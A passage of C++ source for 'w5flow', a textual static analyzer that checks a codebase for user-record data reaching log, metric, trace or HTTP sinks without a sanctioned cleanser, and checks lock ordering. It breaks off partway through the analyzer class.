// w5flow — whole-program DIFC taint analysis + lock-order checker for
// the W5 tree (DESIGN.md §19).
//
// w5lint (DESIGN.md §14) gates *structural* rules: which directories may
// include which, where raw syscalls may appear. This tool gates the two
// remaining prose invariants:
//
//   taint      §3.1/§3.5: user data bytes (store::Record values) reach a
//              telemetry/log/egress sink only through a sanctioned
//              cleanser. Pass 1 builds a per-translation-unit symbol
//              graph — functions, their calls, which identifiers carry
//              record-derived values — and reports every source→sink
//              path with no cleanser on it, with the call chain in the
//              error message.
//   lockorder  The 22+ locking classes carry Clang TSA annotations, but
//              nothing checked that locks are *ordered*. Pass 2 extracts
//              the static lock-acquisition graph (a scoped guard
//              constructed while another guard is live = edge, plus
//              edges through calls made under a live guard), checks it
//              is acyclic, and checks every edge against the documented
//              rank registry tools/w5flow_lock_order.txt — which must
//              also stay in sync with src/util/lock_ranks.h and with the
//              set of mutexes actually declared in the tree.
//
// The analysis is textual (no compiler frontend, same dependency budget
// as w5lint: C++20 + <filesystem>), so it is deliberately paired with a
// runtime witness: debug builds check every ranked acquisition against
// the same registry (util/lock_witness.h), covering the paths — virtual
// calls, function pointers, locks reached through native() — a textual
// scan cannot see.
//
// Usage: w5flow <src-root> [--lock-order <file>] [--ranks-header <file>]
//
// With no --lock-order, the rank/registry checks are skipped (fixture
// trees exercise the graph checks without carrying a registry); cycle
// detection and taint always run. --ranks-header defaults to
// <src-root>/util/lock_ranks.h when --lock-order is given.
//
// Suppressions are in-file and must carry a justification:
//   // w5flow-allow(taint): <why this flow is sanctioned>
//   // w5flow-allow(native): <why this lock bypasses the witness>
// A bare marker with no justification is itself an error. The marker
// suppresses findings reported on its own line or the line below.
//
// Exit 0: clean. Exit 1: violations. Exit 2: bad usage.

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <vector>

namespace fs = std::filesystem;

namespace {

// ---------------------------------------------------------------------------
// Model configuration: sources, cleansers, sinks.
// ---------------------------------------------------------------------------

// The user-data-bearing type. Any parameter/local whose declared type
// names it, and any value produced by a function returning it, is taint.
const std::string kTaintType = "Record";

// Sanctioned cleansers: wrapping an argument in one of these launders it
// for telemetry purposes (§3.5: tokens are charset/length-clamped,
// counts are quantized).
const std::vector<std::string> kCleansers = {"sanitize_telemetry_token",
                                             "quantize_count"};

// A function that consults a declassifier gate is a sanctioned export
// path (§3.1): the decision — not the analyzer — owns what leaves.
const std::vector<std::string> kGateCalls = {"decide", "check_export"};

// Sink calls: member/free functions whose string-ish arguments become
// externally visible bytes (log lines, metric names, trace notes, span
// labels, outbound HTTP). Receiving record-derived data here uncleansed
// is the violation.
const std::vector<std::string> kSinkCalls = {
    // util/log sink
    "log_debug", "log_info", "log_warn", "log_error",
    // util/metrics: metric *names* (the values are integral)
    "counter", "gauge", "histogram", "observe_with_exemplar",
    // core/trace + net/tracing: spans, notes, routes
    "add_span", "set_note", "set_route", "set_parent_span", "append_spans",
    // net::HttpClient egress
    "roundtrip", "roundtrip_with_retry"};

const std::set<std::string> kKeywords = {
    "if",     "for",    "while",   "switch",   "catch",    "return",
    "do",     "else",   "sizeof",  "new",      "delete",   "case",
    "static", "struct", "class",   "enum",     "namespace", "union",
    "const",  "constexpr", "auto", "template", "typename", "using",
    "public", "private", "protected", "operator", "throw", "co_return",
    "alignof", "decltype", "noexcept", "static_assert", "this", "default"};

struct Violation {
  std::string check;
  std::string path;
  std::size_t line;
  std::string message;
};

// ---------------------------------------------------------------------------
// Text utilities (shared with w5lint's approach).
// ---------------------------------------------------------------------------

bool ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
}

std::string strip_comments_and_literals(const std::string& in) {
  std::string out;
  out.reserve(in.size());
  enum class State { kCode, kLineComment, kBlockComment, kString, kChar };
  State state = State::kCode;
  for (std::size_t i = 0; i < in.size(); ++i) {
    const char c = in[i];
    const char next = i + 1 < in.size() ? in[i + 1] : '\0';
    switch (state) {
      case State::kCode:
        if (c == '/' && next == '/') {
          state = State::kLineComment;
          out += "  ";
          ++i;
        } else if (c == '/' && next == '*') {
          state = State::kBlockComment;
          out += "  ";
          ++i;
        } else if (c == '"') {
          state = State::kString;
          out += ' ';
        } else if (c == '\'' && !(i > 0 && ident_char(in[i - 1]))) {
          // A quote directly after an identifier char is a digit
          // separator (2'000), not a char literal.
          state = State::kChar;
          out += ' ';
        } else {
          out += c;
        }
        break;
      case State::kLineComment:
        if (c == '\n') {
          state = State::kCode;
          out += '\n';
        } else {
          out += ' ';
        }
        break;
      case State::kBlockComment:
        if (c == '*' && next == '/') {
          state = State::kCode;
          out += "  ";
          ++i;
        } else {
          out += c == '\n' ? '\n' : ' ';
        }
        break;
      case State::kString:
      case State::kChar: {
        const char quote = state == State::kString ? '"' : '\'';
        if (c == '\\') {
          out += "  ";
          ++i;
          if (next == '\n') out.back() = '\n';
        } else if (c == quote) {
          state = State::kCode;
          out += ' ';
        } else {
          out += c == '\n' ? '\n' : ' ';
        }
        break;
      }
    }
  }
  return out;
}

bool word_in(const std::string& text, const std::string& word) {
  for (auto pos = text.find(word); pos != std::string::npos;
       pos = text.find(word, pos + 1)) {
    const bool left_ok = pos == 0 || !ident_char(text[pos - 1]);
    const std::size_t after = pos + word.size();
    const bool right_ok = after >= text.size() || !ident_char(text[after]);
    if (left_ok && right_ok) return true;
  }
  return false;
}

std::string trim(const std::string& s) {
  std::size_t b = 0, e = s.size();
  while (b < e && std::isspace(static_cast<unsigned char>(s[b])) != 0) ++b;
  while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1])) != 0) --e;
  return s.substr(b, e - b);
}

// Last identifier in `s` (e.g. "const store::Record& rec" -> "rec").
std::string last_ident(const std::string& s) {
  std::size_t e = s.size();
  while (e > 0 && !ident_char(s[e - 1])) --e;
  std::size_t b = e;
  while (b > 0 && ident_char(s[b - 1])) --b;
  return s.substr(b, e - b);
}

// ---------------------------------------------------------------------------
// Symbol graph.
// ---------------------------------------------------------------------------

struct Call {
  std::string name;       // base identifier ("roundtrip")
  std::string qualifier;  // "HttpClient" in HttpClient::roundtrip, "" else
  std::size_t line;       // 1-based
  std::string args;       // argument text, parens stripped
};

struct Param {
  std::string type;
  std::string name;
};

struct Function {
  std::string name;   // "Class::method" or "free_function"
  std::string base;   // "method"
  std::string cls;    // "Class" or ""
  std::string file;   // rel path
  std::size_t line;   // of the body's opening brace
  std::string head;   // text before the parameter list (return type etc.)
  std::vector<Param> params;
  std::vector<std::string> body_lines;  // stripped, body only
  std::size_t body_first_line;          // 1-based line of first body line
  std::vector<Call> calls;

  // Taint state (pass 1).
  std::set<std::string> tainted;           // identifiers carrying record data
  std::map<std::string, std::string> why;  // ident -> provenance note
  bool returns_taint = false;
  bool gated = false;  // consults a declassifier: sanctioned export path
  std::set<std::size_t> leaky_params;      // param index -> reaches a sink
  std::map<std::size_t, std::string> leak_via;  // param index -> chain text

  // Lock state (pass 2).
  std::set<std::string> acquires;  // mutex ids directly guarded here
};

struct MutexDecl {
  std::string id;      // "AuditLog::mutex_"
  std::string member;  // "mutex_"
  std::string file;
  std::size_t line;
};

struct LockEdge {
  std::string from, to;  // mutex ids
  std::string site;      // "file:line (Class::fn)"
};

struct RankEntry {
  int rank = 0;
  std::string id;
  std::string constant;
  std::size_t line = 0;
};

struct ParsedFile {
  std::string rel;
  std::vector<std::string> raw_lines;
  std::vector<std::string> lines;  // stripped
};

class Analyzer {
 public:
  explicit Analyzer(fs::path root) : root_(std::move(root)) {}

  int run(const std::string& lock_order_file,
          const std::string& ranks_header) {
    if (!fs::exists(root_)) {
      std::cerr << "w5flow: no such directory: " << root_ << "\n";
      return 2;
    }
    std::vector<fs::path> paths;
    for (const auto& entry : fs::recursive_directory_iterator(root_)) {
      if (!entry.is_regular_file()) continue;
      const auto ext = entry.path().extension();
      if (ext == ".h" || ext == ".cpp" || ext == ".cc" || ext == ".hpp")
        paths.push_back(entry.path());
    }
    std::sort(paths.begin(), paths.end());
    for (const auto& p : paths) parse_file(p);

    build_name_index();
    if (std::getenv("W5FLOW_DEBUG") != nullptr) {
      for (const Function& fn : functions_)
        std::cerr << "fn " << fn.file << ":" << fn.line << " " << fn.name
                  << "\n";
    }
    taint_pass();
    lock_pass(lock_order_file, ranks_header);

    for (const Violation& v : violations_) {
      std::cerr << "w5flow: " << v.path << ":" << v.line << ": [" << v.check
                << "] " << v.message << "\n";
    }
    std::cerr << "w5flow: " << files_.size() << " files, " << functions_.size()
              << " functions, " << mutexes_.size() << " mutexes, "
              << edges_.size() << " lock edges, " << violations_.size()
              << " violation(s), " << suppressed_ << " suppressed\n";
    return violations_.empty() ? 0 : 1;
  }

 private:
  // ---- parsing ------------------------------------------------------------

  void parse_file(const fs::path& path) {
    std::ifstream in(path);
    std::stringstream buffer;
    buffer << in.rdbuf();
    const std::string raw = buffer.str();
    const std::string stripped = strip_comments_and_literals(raw);

    ParsedFile pf;
    pf.rel = fs::relative(path, root_).generic_string();
    {
      std::stringstream ss(raw);
      std::string line;
      while (std::getline(ss, line)) pf.raw_lines.push_back(line);
    }
    {
      std::stringstream ss(stripped);
      std::string line;
      while (std::getline(ss, line)) pf.lines.push_back(line);
    }
    // Preprocessor directives (and their backslash continuations) would
    // pollute statement tracking; blank them. Both arms of an #if stay
    // visible — fine for a scan that wants to see all the code.
    bool continuing = false;
    for (auto& l : pf.lines) {
      const std::string t = trim(l);
      const bool directive = continuing || (!t.empty() && t[0] == '#');
      continuing = directive && !t.empty() && t.back() == '\\';
      if (directive) l.assign(l.size(), ' ');
    }
    std::string text;
    for (const auto& l : pf.lines) {
      text += l;
      text += '\n';
    }
    current_file_ = &pf;
    extract(pf, text);
    current_file_ = nullptr;
    files_.push_back(std::move(pf));
  }

  // Walks the stripped text once: tracks class nesting, finds function
  // bodies and mutex declarations.
  void extract(const ParsedFile& pf, const std::string& text) {
    struct ClassScope {
      std::string name;
      int depth;  // brace depth the class body lives at
    };
    std::vector<ClassScope> classes;
    int depth = 0;
    std::size_t line = 1;
    std::string stmt;           // statement text since last ; { }
    std::size_t stmt_line = 1;  // line the statement started on
    int fn_body_depth = -1;     // depth inside a function body, -1 = none
    std::size_t fn_index = 0;   // index into functions_ of the open fn
    std::string pending_class;  // "class X" seen, waiting for its '{'
    int init_depth = -1;        // depth below a brace initializer, -1 = none

    for (std::size_t i = 0; i < text.size(); ++i) {
      const char c = text[i];
      if (c == '\n') {
        ++line;
        if (fn_body_depth < 0 && init_depth < 0) {
          stmt += ' ';
          detect_class(stmt, pending_class);
        }
        continue;
      }
      if (fn_body_depth >= 0) {
        // Inside a function body: just track depth until it closes.
        if (c == '{') ++depth;
        if (c == '}') {
          --depth;
          if (depth < fn_body_depth) {
            close_function(fn_index, line);
            fn_body_depth = -1;
            stmt.clear();
            stmt_line = line;
          }
        }
        continue;
      }
      if (init_depth >= 0) {
        // Inside a brace initializer ("util::Mutex mutex_{kFoo, ...}"):
        // the braces belong to the statement, which ends at its ';'.
        if (c == '{') ++depth;
        if (c == '}') {
          --depth;
          if (depth == init_depth) {
            init_depth = -1;
            // A true initializer is followed by ';' or ','. Anything
            // else means the heuristic mis-filed a construct (say, an
            // unrecognized function shape) — drop the poisoned
            // statement instead of letting it swallow the rest of the
            // file.
            std::size_t peek = i + 1;
            while (peek < text.size() &&
                   std::isspace(static_cast<unsigned char>(text[peek])) != 0)
              ++peek;
            if (peek >= text.size() ||
                (text[peek] != ';' && text[peek] != ',')) {
              stmt.clear();
              stmt_line = line;
              continue;
            }
          }
        }
        if (stmt.size() < 4096) stmt += c;
        continue;
      }
      if (c == '{') {
        // Order matters: "template <class T> void f() {" must be read as
        // a function, not as class T.
        if (looks_like_function(stmt)) {
          open_function(pf, stmt, stmt_line, line, classes.empty()
                                                       ? std::string{}
                                                       : classes.back().name);
          fn_index = functions_.size() - 1;
          fn_body_depth = depth + 1;
          functions_.back().body_first_line = line;
          pending_class.clear();
        } else if (!pending_class.empty()) {
          classes.push_back({pending_class, depth + 1});
          pending_class.clear();
        } else if (is_scope_open(stmt)) {
          // namespace / extern "C" / bare block: a new scope.
        } else if (!trim(stmt).empty()) {
          // Brace initializer on a declaration: keep the statement going.
          init_depth = depth;
          stmt += c;
          ++depth;
          continue;
        }
        ++depth;
        stmt.clear();
        stmt_line = line;
        continue;
      }
      if (c == '}') {
        --depth;
        while (!classes.empty() && classes.back().depth > depth)
          classes.pop_back();
        stmt.clear();
        stmt_line = line;
        continue;
      }
      if (c == ';') {
        // A full declaration statement: mutex member/global?
        scan_mutex_decl(pf, stmt, stmt_line,
                        classes.empty() ? std::string{} : classes.back().name);
        pending_class.clear();
        stmt.clear();
        stmt_line = line;
        continue;
      }
      if (stmt.empty()) stmt_line = line;
      stmt += c;
      // Record "class X" / "struct X" as a pending scope the moment the
      // name is complete (the '{' may be many tokens away: bases, final).
      if (c == ' ' || c == ':') detect_class(stmt, pending_class);
    }
  }

  // "namespace w5 {", "extern ... {": scopes, not initializers.
  static bool is_scope_open(const std::string& stmt) {
    const std::string t = trim(stmt);
    if (t.empty()) return true;
    return word_in(t, "namespace") || word_in(t, "extern");
  }

  static void detect_class(const std::string& stmt, std::string& pending) {
    // Matches "... class|struct NAME" in the statement buffer; the
    // LATEST keyword wins ("template <class T> struct Foo" names Foo).
    std::size_t best = std::string::npos;
    std::size_t best_kw_len = 0;
    for (const std::string k : {"class ", "struct "}) {
      const auto pos = stmt.rfind(k);
      if (pos == std::string::npos) continue;
      if (pos > 0 && ident_char(stmt[pos - 1])) continue;
      if (best == std::string::npos || pos > best) {
        best = pos;
        best_kw_len = k.size();
      }
    }
    if (best == std::string::npos) return;
    const std::string rest = trim(stmt.substr(best + best_kw_len));
    // The name is the first identifier chain that is not an attribute
    // macro (annotation macros like W5_CAPABILITY(...) may intervene);
    // out-of-line nested definitions ("struct Outer::Inner") name the
    // innermost component.
    std::stringstream ss(rest);
    std::string tok;
    while (ss >> tok) {
      std::string name;
      for (const char ch : tok) {
        if (ident_char(ch) || ch == ':') name += ch;
        else break;
      }
      if (name.empty()) continue;          // "(", ")" from a macro
      while (!name.empty() && name.back() == ':') name.pop_back();
      if (name.empty()) continue;
      if (name.rfind("W5_", 0) == 0 || name == "final" || name == "alignas")
        continue;
      const auto last = name.rfind("::");
      pending = last == std::string::npos ? name : name.substr(last + 2);
      return;
    }
  }

  static bool looks_like_function(const std::string& stmt_in) {
    const std::string stmt = trim(stmt_in);
    if (stmt.empty()) return false;
    // Reject declarations-with-initializers, lambdas, arrays — but not
    // "operator=" / "operator==" definitions.
    int pdepth = 0;
    for (std::size_t i = 0; i < stmt.size(); ++i) {
      const char c = stmt[i];
      if (c == '(') ++pdepth;
      if (c == ')') --pdepth;
      if (c == '=' && pdepth == 0) {
        const std::string before = stmt.substr(0, i);
        const bool op = before.size() >= 8 &&
                        before.compare(before.size() - 8, 8, "operator") == 0;
        const char prev = i > 0 ? stmt[i - 1] : '\0';
        const char next = i + 1 < stmt.size() ? stmt[i + 1] : '\0';
        if (!op && prev != '=' && prev != '!' && prev != '<' && prev != '>' &&
            next != '=')
          return false;
      }
    }
    // Class heads with bases ("class X : public Y") never carry parens
    // before the brace; anything else with no parens isn't a function.
    const auto paren = stmt.find('(');
    if (paren == std::string::npos) return false;
    const std::string before = stmt.substr(0, paren);
    const std::string name = last_ident(before);
    if (name.empty()) return false;
    // "operator=(...)": last_ident skips the '=' and lands on the
    // keyword, but these are functions.
    if (name == "operator") return true;
    if (kKeywords.count(name) != 0) return false;
    if (name.rfind("W5_", 0) == 0) return false;  // annotation macro
    return true;
  }

  void open_function(const ParsedFile& pf, const std::string& stmt,
                     std::size_t stmt_line, std::size_t brace_line,
                     const std::string& enclosing_class) {
    Function fn;
    fn.file = pf.rel;
    fn.line = brace_line;
    const auto paren = stmt.find('(');
    const std::string before = stmt.substr(0, paren);
    fn.base = last_ident(before);
    // Qualified name: "A::b" when written that way, else class scope.
    const auto base_pos = before.rfind(fn.base);
    std::string qual;
    if (base_pos >= 2 && before.compare(base_pos - 2, 2, "::") == 0) {
      std::size_t q = base_pos - 2;
      std::size_t b = q;
      while (b > 0 && (ident_char(before[b - 1]) || before[b - 1] == ':')) --b;
      qual = before.substr(b, q - b);
      const auto last_colon = qual.rfind("::");
      if (last_colon != std::string::npos) qual = qual.substr(last_colon + 2);
    } else if (!enclosing_class.empty()) {
      qual = enclosing_class;
    }
    fn.cls = qual;
    fn.name = qual.empty() ? fn.base : qual + "::" + fn.base;
    fn.head = trim(before.substr(0, before.size() - fn.base.size()));
    // Parameter list: between the first '(' and its matching ')'.
    int pd = 0;
    std::size_t end = paren;
    for (std::size_t i = paren; i < stmt.size(); ++i) {
      if (stmt[i] == '(') ++pd;
      if (stmt[i] == ')' && --pd == 0) {
        end = i;
        break;
      }
    }
    const std::string param_text = stmt.substr(paren + 1, end - paren - 1);
    std::size_t start = 0;
    int d = 0;
    for (std::size_t i = 0; i <= param_text.size(); ++i) {
      const char pc = i < param_text.size() ? param_text[i] : ',';
      if (pc == '(' || pc == '<' || pc == '[') ++d;
      if (pc == ')' || pc == '>' || pc == ']') --d;
      if (pc == ',' && d <= 0) {
        const std::string one = trim(param_text.substr(start, i - start));
        if (!one.empty()) {
          Param p;
          p.name = last_ident(one);
          p.type = one;
          fn.params.push_back(std::move(p));
        }
        start = i + 1;
      }
    }
    (void)stmt_line;
    functions_.push_back(std::move(fn));
  }

  void close_function(std::size_t index, std::size_t last_line) {
    Function& fn = functions_[index];
    // parse_file() points current_file_ at the file being extracted
    // (it is not yet in files_).
    const ParsedFile& pf = *current_file_;
    // Body lines: from the brace line through the closing line.
    for (std::size_t l = fn.line; l <= last_line && l <= pf.lines.size(); ++l)
      fn.body_lines.push_back(pf.lines[l - 1]);
    fn.body_first_line = fn.line;
    extract_calls(fn);
  }

  void extract_calls(Function& fn) {
    for (std::size_t li = 0; li < fn.body_lines.size(); ++li) {
      const std::string& line = fn.body_lines[li];
      for (std::size_t i = 0; i < line.size(); ++i) {
        if (!ident_char(line[i])) continue;
        std::size_t b = i;
        while (i < line.size() && ident_char(line[i])) ++i;
        const std::string tok = line.substr(b, i - b);
        std::size_t after = i;
        while (after < line.size() &&
               std::isspace(static_cast<unsigned char>(line[after])) != 0)
          ++after;
        if (after >= line.size() || line[after] != '(') continue;
        if (kKeywords.count(tok) != 0) continue;
        Call call;
        call.name = tok;
        call.line = fn.body_first_line + li;
        if (b >= 2 && line.compare(b - 2, 2, "::") == 0) {
          std::size_t qe = b - 2;
          std::size_t qb = qe;
          while (qb > 0 && ident_char(line[qb - 1])) --qb;
          call.qualifier = line.substr(qb, qe - qb);
          // "::shutdown(fd)": explicit global scope — an OS call, never
          // a tree function. Mark so resolve() skips it.
          if (call.qualifier.empty()) call.qualifier = "::";
        }
        // Argument text: to the matching ')': single line is enough for
        // taint word-matching; continue across lines for wrapped calls.
        std::string args;
        int d = 0;
        std::size_t lj = li;
        std::size_t pos = after;
        while (lj < fn.body_lines.size()) {
          const std::string& l2 = fn.body_lines[lj];
          for (; pos < l2.size(); ++pos) {
            if (l2[pos] == '(') ++d;
            else if (l2[pos] == ')') {
              --d;
              if (d == 0) break;
            }
            if (d >= 1 && !(l2[pos] == '(' && d == 1)) args += l2[pos];
          }
          if (pos < l2.size()) break;  // matched
          ++lj;
          pos = 0;
          args += ' ';
          if (args.size() > 4096) break;  // degenerate; enough context
        }
        call.args = args;
        fn.calls.push_back(std::move(call));
      }
    }
  }

  void build_name_index() {
    for (std::size_t i = 0; i < functions_.size(); ++i) {
      by_name_[functions_[i].name].push_back(i);
      by_base_[functions_[i].base].push_back(i);
    }
  }

  // Resolves a call to a unique function index, or nullopt.
  std::optional<std::size_t> resolve(const Function& caller,
                                     const Call& call) const {
    if (!call.qualifier.empty()) {
      const auto it = by_name_.find(call.qualifier + "::" + call.name);
      if (it != by_name_.end() && it->second.size() == 1)
        return it->second[0];
      return std::nullopt;
    }
    // Method call on the caller's own class wins.
    if (!caller.cls.empty()) {
      const auto it = by_name_.find(caller.cls + "::" + call.name);
      if (it != by_name_.end() && it->second.size() == 1)
        return it->second[0];
    }
    const auto it = by_base_.find(call.name);
    if (it != by_base_.end() && it->second.size() == 1) return it->second[0];
    return std::nullopt;
  }

  // ---- suppressions -------------------------------------------------------

  const ParsedFile* find_file(const std::string& rel) const {
    for (const auto& f : files_)
      if (f.rel == rel) return &f;
    return nullptr;
  }

  // A finding at `line` is suppressed by a justified marker on the same
  // line or in the contiguous block of comment lines directly above it.
  bool allowed(const std::string& check, const std::string& rel,
               std::size_t line) {
    const ParsedFile* pf = find_file(rel);
    if (pf == nullptr) return false;
    const std::string marker = "w5flow-allow(" + check + "):";
    for (std::size_t l = line; l >= 1; --l) {
      if (l > pf->raw_lines.size()) continue;
      const std::string& raw = pf->raw_lines[l - 1];
      // Above the finding line itself, only comment lines keep the
      // search alive — the marker must sit flush against the site.
      if (l != line && trim(raw).rfind("//", 0) != 0) break;
      const auto pos = raw.find(marker);
      if (pos == std::string::npos) continue;
      if (trim(raw.substr(pos + marker.size())).empty()) {
        report("allow", rel, l,
               "w5flow-allow(" + check +
                   ") needs an in-file justification after the colon");
        return false;
      }
      ++suppressed_;
      return true;
    }
    return false;
  }

  void report(std::string check, const std::string& rel, std::size_t line,
              std::string message) {
    violations_.push_back(
        Violation{std::move(check), rel, line, std::move(message)});
  }

  void report_allowable(const std::string& check, const std::string& rel,
                        std::size_t line, std::string message) {
    if (allowed(check, rel, line)) return;
    report(check, rel, line, std::move(message));
  }

  // ---- pass 1: taint ------------------------------------------------------

  static bool type_is_taint(const std::string& type) {
    return word_in(type, kTaintType);
  }

  static bool has_cleanser(const std::string& text) {
    for (const auto& c : kCleansers)
      if (word_in(text, c)) return true;
    return false;
  }

  void seed_taint(Function& fn) {
    for (const Param& p : fn.params) {
      if (type_is_taint(p.type) && !p.name.empty()) {
        fn.tainted.insert(p.name);
        fn.why[p.name] = "parameter '" + p.name + "' of " + fn.name +
                         " carries store::Record data";
      }
    }
    if (type_is_taint(fn.head)) fn.returns_taint = true;
    for (const Call& c : fn.calls) {
      for (const auto& g : kGateCalls) {
        if (c.name == g) fn.gated = true;
      }
    }
  }

  // One local propagation sweep; returns true if anything changed.
  bool propagate_local(Function& fn) {
    bool changed = false;
    for (std::size_t li = 0; li < fn.body_lines.size(); ++li) {
      const std::string& line = fn.body_lines[li];
      // Local declarations of the taint type.
      if (word_in(line, kTaintType)) {
        // "Record r = ..." / "const Record& r : ..." — take the ident
        // right after the last kTaintType token's type expression.
        const auto pos = line.rfind(kTaintType);
        std::string rest = line.substr(pos + kTaintType.size());
        // Skip template/ref/ptr decoration to the first identifier.
        std::size_t b = 0;
        while (b < rest.size() && !ident_char(rest[b])) {
          // Abort on statement glue: this was a use, not a declaration.
          if (rest[b] == ';' || rest[b] == ',' || rest[b] == ')') break;
          ++b;
        }
        std::size_t e = b;
        while (e < rest.size() && ident_char(rest[e])) ++e;
        const std::string name = rest.substr(b, e - b);
        if (!name.empty() && kKeywords.count(name) == 0 &&
            fn.tainted.insert(name).second) {
          fn.why[name] = "'" + name + "' declared as store::Record in " +
                         fn.name;
          changed = true;
        }
      }
      // Assignment / initialization from a tainted RHS.
      const auto eq = find_assign(line);
      if (eq != std::string::npos) {
        const std::string lhs = last_ident(line.substr(0, eq));
        const std::string rhs = line.substr(eq + 1);
        if (!lhs.empty() && kKeywords.count(lhs) == 0 &&
            fn.tainted.count(lhs) == 0 && rhs_tainted(fn, rhs)) {
          fn.tainted.insert(lhs);
          fn.why[lhs] = "'" + lhs + "' in " + fn.name + " <- " +
                        trim(rhs).substr(0, 48);
          changed = true;
        }
      }
      // Range-for over a tainted container: for (auto& x : tainted).
      const auto colon = range_for_colon(line);
      if (colon != std::string::npos) {
        const std::string var = last_ident(line.substr(0, colon));
        const std::string range = line.substr(colon + 1);
        if (!var.empty() && fn.tainted.count(var) == 0 &&
            rhs_tainted(fn, range)) {
          fn.tainted.insert(var);
          fn.why[var] = "'" + var + "' iterates record data in " + fn.name;
          changed = true;
        }
      }
      // Return statements.
      if (!fn.returns_taint) {
        const auto r = line.find("return ");
        if (r != std::string::npos &&
            (r == 0 || !ident_char(line[r == 0 ? 0 : r - 1])) &&
            rhs_tainted(fn, line.substr(r + 7))) {
          fn.returns_taint = true;
          changed = true;
        }
      }
    }
    return changed;
  }

  static std::size_t find_assign(const std::string& line) {
    int d = 0;
    for (std::size_t i = 0; i < line.size(); ++i) {
      const char c = line[i];
      if (c == '(' || c == '[' || c == '{') ++d;
      if (c == ')' || c == ']' || c == '}') --d;
      if (c == '=' && d == 0) {
        const char prev = i > 0 ? line[i - 1] : '\0';
        const char next = i + 1 < line.size() ? line[i + 1] : '\0';
        if (prev == '=' || prev == '!' || prev == '<' || prev == '>' ||
            prev == '+' || prev == '-' || prev == '*' || prev == '/' ||
            prev == '&' || prev == '|' || next == '=')
          continue;
        return i;
      }
    }
    return std::string::npos;
  }

  static std::size_t range_for_colon(const std::string& line) {
    const auto f = line.find("for ");
    const auto f2 = line.find("for(");
    if (f == std::string::npos && f2 == std::string::npos)
      return std::string::npos;
    int d = 0;
    for (std::size_t i = 0; i < line.size(); ++i) {
      const char c = line[i];
      if (c == '(') ++d;
      if (c == ')') --d;
      if (c == ':' && d == 1) {
        if (i > 0 && line[i - 1] == ':') return std::string::npos;
        if (i + 1 < line.size() && line[i + 1] == ':')
          return std::string::npos;
        return i;
      }
    }
    return std::string::npos;
  }

  // Does this expression carry taint: a tainted identifier, or a call to
  // a taint-returning function (and no cleanser wrapping)?
  bool rhs_tainted(const Function& fn, const std::string& expr) const {
    if (has_cleanser(expr)) return false;
    for (const auto& t : fn.tainted)
      if (word_in(expr, t)) return true;
    // Calls to taint-returning functions. An unresolvable base name
    // (many overloads/classes) still taints when every candidate agrees
    // — e.g. get() on both store flavors returns a Record.
    for (const Call& c : fn.calls) {
      if (!word_in(expr, c.name)) continue;
      const auto callee = resolve(fn, c);
      if (callee) {
        if (functions_[*callee].returns_taint) return true;
        continue;
      }
      const auto it = by_base_.find(c.name);
      if (it == by_base_.end() || it->second.empty()) continue;
      bool all = true;
      for (const std::size_t idx : it->second)
        if (!functions_[idx].returns_taint) all = false;
      if (all) return true;
    }
    return false;
  }

  void taint_pass() {
    for (Function& fn : functions_) seed_taint(fn);
    // Global fixpoint: local propagation depends on callee summaries
    // (returns_taint), which depend on local propagation.
    for (int round = 0; round < 8; ++round) {
      bool changed = false;
      for (Function& fn : functions_)
        while (propagate_local(fn)) changed = true;
      if (!changed) break;
    }
    // Leaky-param summaries: param name reaches a sink argument, or is
    // handed to a callee position that does.
    for (int round = 0; round < 8; ++round) {
      bool changed = false;
      for (Function& fn : functions_) {
        for (std::size_t pi = 0; pi < fn.params.size(); ++pi) {
          if (fn.params[pi].name.empty() ||
              fn.leaky_params.count(pi) != 0)
            continue;
          const std::string& pname = fn.params[pi].name;
          for (const Call& c : fn.calls) {
            if (is_sink(c.name)) {
              if (word_in(c.args, pname) && !has_cleanser(c.args)) {
                fn.leaky_params.insert(pi);
                fn.leak_via[pi] = fn.name + " -> " + c.name + "() at " +
                                  fn.file + ":" + std::to_string(c.line);
                changed = true;
                break;
              }
              continue;
            }
            const auto callee = resolve(fn, c);
            if (!callee) continue;
            const Function& g = functions_[*callee];
            if (g.leaky_params.empty()) continue;
            const auto positions = arg_positions(c.args, pname);
            for (const std::size_t ai : positions) {
              if (g.leaky_params.count(ai) != 0) {
                fn.leaky_params.insert(pi);
                fn.leak_via[pi] =
                    fn.name + " -> " + g.leak_via.at(ai);
                changed = true;
                break;
              }
            }
            if (fn.leaky_params.count(pi) != 0) break;
          }
        }
      }
      if (!changed) break;
    }
    // Violations: tainted data meeting a sink call, directly or through
    // a leaky callee. Gated functions are sanctioned export paths.
    for (Function& fn : functions_) {
      if (fn.gated) continue;
      for (const Call& c : fn.calls) {
        if (has_cleanser(c.args)) continue;
        const std::string hit = first_tainted_in(fn, c.args);
        if (hit.empty()) continue;
        if (is_sink(c.name)) {
          report_allowable(
              "taint", fn.file, c.line,
              "record data reaches sink " + c.name + "() uncleansed; " +
                  chain_for(fn, hit) + " -> " + c.name + "()");
          continue;
        }
        const auto callee = resolve(fn, c);
        if (!callee) continue;
        const Function& g = functions_[*callee];
        if (g.gated) continue;
        for (const std::size_t ai : arg_positions(c.args, hit)) {
          if (g.leaky_params.count(ai) != 0) {
            report_allowable(
                "taint", fn.file, c.line,
                "record data reaches a sink through the call chain " +
                    chain_for(fn, hit) + " -> " + g.leak_via.at(ai));
            break;
          }
        }
      }
    }
  }

  static bool is_sink(const std::string& name) {
    return std::find(kSinkCalls.begin(), kSinkCalls.end(), name) !=
           kSinkCalls.end();
  }

  std::string first_tainted_in(const Function& fn,
                               const std::string& args) const {
    for (const auto& t : fn.tainted)
      if (word_in(args, t)) return t;
    return {};
  }

  std::string chain_for(const Function& fn, const std::string& ident) const {
    const auto it = fn.why.find(ident);
    const std::string origin =
        it != fn.why.end() ? it->second : "'" + ident + "'";
    return "source: " + origin;
  }

  // Which zero-based argument positions of `args` mention `ident`.
  static std::vector<std::size_t> arg_positions(const std::string& args,
                                                const std::string& ident) {
    std::vector<std::size_t> out;
    std::size_t start = 0, index = 0;
    int d = 0;
    for (std::size_t i = 0; i <= args.size(); ++i) {
      const char c = i < args.size() ? args[i] : ',';
      if (c == '(' || c == '[' || c == '{' || c == '<') ++d;
      if (c == ')' || c == ']' || c == '}' || c == '>') --d;
      if (c == ',' && d <= 0) {
        if (word_in(args.substr(start, i - start), ident)) out.push_back(index);
        ++index;
        start = i + 1;
      }
    }
    return out;
  }

